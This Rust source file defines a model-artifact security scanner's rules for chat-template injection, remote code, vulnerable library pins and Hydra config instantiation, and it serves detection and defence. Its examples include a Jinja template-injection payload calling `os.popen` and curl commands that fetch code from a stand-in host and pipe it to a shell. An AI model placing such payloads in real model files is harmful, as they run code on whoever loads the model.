//! Rules of configs, chat templates and remote code (`CFG`).

use probity_report::{Rule, Severity};

pub static CFG001: Rule = Rule {
    id: "CFG001",
    severity: Severity::Critical,
    title: "Template reaches Python internals and code execution",
    what: "A Jinja template (a chat template in `tokenizer_config.json` or GGUF metadata, a standalone template, a template string in a config) walks from an ordinary object to Python internals (`__class__`, `__mro__`, `__subclasses__`, `__globals__`, `__builtins__`, ...) and names a way to act: a process, code, import, file or network callable or module (`os`, `system`, `popen`, `eval`, `__import__`, `open`, `urlopen`, ...), or calls an object fetched from the class hierarchy. String escapes and concatenated constants are resolved first; a template that does not parse is judged region by region.",
    why: "Loaders render chat templates with Jinja; an engine that is not sandboxed (llama-cpp-python before 0.2.72, custom pipelines) runs the payload on the first chat request. Ordinary chat templates never touch a dunder attribute.",
    example: "`{{ cycler.__init__.__globals__.os.popen('id').read() }}` as `chat_template`.",
    references: &["CVE-2024-34359", "CWE-1336"],
};

pub static CFG002: Rule = Rule {
    id: "CFG002",
    severity: Severity::Warning,
    title: "Template traverses Python object internals",
    what: "A Jinja template reaches dunder attributes (`__class__`, `__mro__`, `__subclasses__`, `__globals__`, ...) or computes an attribute name at render time (`|attr(x)` with a non-constant `x`), without naming a way to act that Probity recognises.",
    why: "Object traversal is the first half of every template-injection payload and has no use in a chat template; the second half may be hidden in ways a static reading cannot resolve (names built with `chr()`, values from the context).",
    example: "`{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1)|attr('__subclasses__')() }}`.",
    references: &["CWE-1336"],
};

pub static CFG003: Rule = Rule {
    id: "CFG003",
    severity: Severity::Info,
    title: "Template does not parse",
    what: "A Jinja template string in a JSON config is rejected by minijinja's lexer or parser (an unterminated string or block, syntax minijinja does not share with Python's Jinja). A template the lexer rejects is judged region by region; this finding says only that it does not parse.",
    why: "A loader may refuse to render it, so the model's chat formatting may be broken; a broken template is also a place where scanners that give up can be fooled.",
    example: "`{\"chat_template\": \"{{ unclosed_bracket\"}`.",
    references: &[],
};

pub static CFG004: Rule = Rule {
    id: "CFG004",
    severity: Severity::Warning,
    title: "Text document or template too large to inspect",
    what: "A JSON, YAML or template document is larger than the text limit (`MAX_TEXT_DOCUMENT` in crates/scan/src/limits.rs), or one template in it is larger than `MAX_TEMPLATE`, so it was not inspected.",
    why: "Configs, tokenizer files and chat templates are small; something larger cannot be called clean, and padding is a way to push a payload past a scanner's limits.",
    example: "A 300 MB `tokenizer_config.json`.",
    references: &[],
};

pub static CFG005: Rule = Rule {
    id: "CFG005",
    severity: Severity::Warning,
    title: "Config loads custom code (auto_map)",
    what: "A Hugging Face `config.json` or `tokenizer_config.json` has an `auto_map`: loading the model with `trust_remote_code=True` imports and runs the Python modules it names (listed in the evidence, with the repository when the code lives in another one).",
    why: "Remote code runs with the loader's privileges before any weight is read; it must be reviewed like any dependency. Probity scans the `.py` files it finds (CFG006), but code in another repository is not here to scan.",
    example: "`\"auto_map\": {\"AutoModelForCausalLM\": \"modeling_x.XForCausalLM\"}`.",
    references: &["CWE-829"],
};

pub static CFG006: Rule = Rule {
    id: "CFG006",
    severity: Severity::Critical,
    title: "Python code shipped with the model runs dangerous calls",
    what: "A Python file (remote code for `trust_remote_code`, a custom pipeline, a script beside the weights) calls process execution (`os.system`, `subprocess.*`), code evaluation or loading (`eval`, `exec`, `compile`, `__import__`, `marshal.loads`, `pickle.loads`, `ctypes`), network access (`socket`, `urllib.request`, `requests`, `httpx`), or writes or deletes files by absolute or home paths. Calls are resolved through the file's imports and aliases; code decoded from base64, hex or compression on its way into `exec`/`eval` is noted.",
    why: "Transformers imports remote code when the model is loaded; these calls run then, with the user's credentials, on the training or serving machine. Ordinary modeling code does none of them.",
    example: "`modeling_x.py` with `import subprocess as sp` and `sp.run(['curl', 'http://203.0.113.7/x'])` at module level.",
    references: &["CWE-94", "CWE-829"],
};

pub static DEP001: Rule = Rule {
    id: "DEP001",
    severity: Severity::Warning,
    title: "Requirements pin a model-loading library with published vulnerabilities",
    what: "A `requirements*.txt` shipped with the model pins (`name==version`) a library that loads models at a version a published advisory affects: torch, transformers, keras, onnx, llama-cpp-python or skops (the table in crates/scan/src/formats/config/advisories.rs, with its sources). The finding names the CVEs and the first fixed release.",
    why: "Whoever installs these requirements loads the model with a library that a crafted model file can exploit, whatever the scan found in the weights.",
    example: "`torch==2.5.1` (CVE-2025-32434: `torch.load(weights_only=True)` can still run code) beside `pytorch_model.bin`.",
    references: &["CVE-2025-32434", "CVE-2024-3568", "CVE-2023-6730", "CVE-2024-11392", "CVE-2024-3660", "CVE-2025-1550", "CVE-2025-8747", "CVE-2025-9906", "CVE-2022-25882", "CVE-2024-27318", "CVE-2024-34359", "CVE-2025-54412", "CWE-1395"],
};

pub static DEP002: Rule = Rule {
    id: "DEP002",
    severity: Severity::Info,
    title: "Model saved with a library release that has published vulnerabilities",
    what: "The model's config says which library release saved it (`transformers_version` in `config.json`, `keras_version` in a Keras config), and a published advisory affects that release.",
    why: "It says which releases the publisher works with, not which one will load the model: load it with a fixed release.",
    example: "`\"transformers_version\": \"4.30.2\"` in `config.json` (CVE-2023-6730, CVE-2024-3568 and others).",
    references: &["CWE-1395"],
};

pub static HYD001: Rule = Rule {
    id: "HYD001",
    severity: Severity::Critical,
    title: "Hydra config instantiates a dangerous callable",
    what: "A YAML or JSON config (NeMo's `model_config.yaml` inside a `.nemo` archive, a Hydra config beside the weights) has a `_target_` naming a callable in the process, code-evaluation, file or network families (`os.system`, `subprocess.Popen`, `builtins.eval`, `builtins.exec`, …; the same table as pickles and Keras objects). `hydra.utils.instantiate` imports it and calls it with the node's other keys as arguments.",
    why: "NeMo and other Hydra-based loaders instantiate the model's config when it is restored: the call runs on load, with the loader's privileges.",
    example: "`model_config.yaml` in a `.nemo` tar with `_target_: os.system` and `_args_: [\"curl http://203.0.113.7/x | sh\"]`.",
    references: &["CVE-2025-23304", "CWE-94", "CWE-470"],
};

pub static HYD002: Rule = Rule {
    id: "HYD002",
    severity: Severity::Warning,
    title: "Hydra config instantiates a callable outside the usual model libraries",
    what: "A `_target_` in a YAML or JSON config names a callable whose package is not one model configs instantiate (NeMo, PyTorch, torchaudio, torchvision, Lightning, transformers, Megatron, Apex, torchmetrics, OmegaConf, Hydra, SentencePiece, tokenizers, timm, PEFT).",
    why: "Instantiation imports the package and calls the target: code the reviewer has not seen runs on load. Review it, then silence the rule for this path in probity.toml.",
    example: "`_target_: mylab.callbacks.Upload` in `model_config.yaml`.",
    references: &["CWE-470"],
};

pub static RULES: &[&Rule] = &[
    &CFG001, &CFG002, &CFG003, &CFG004, &CFG005, &CFG006, &DEP001, &DEP002, &HYD001, &HYD002,
];
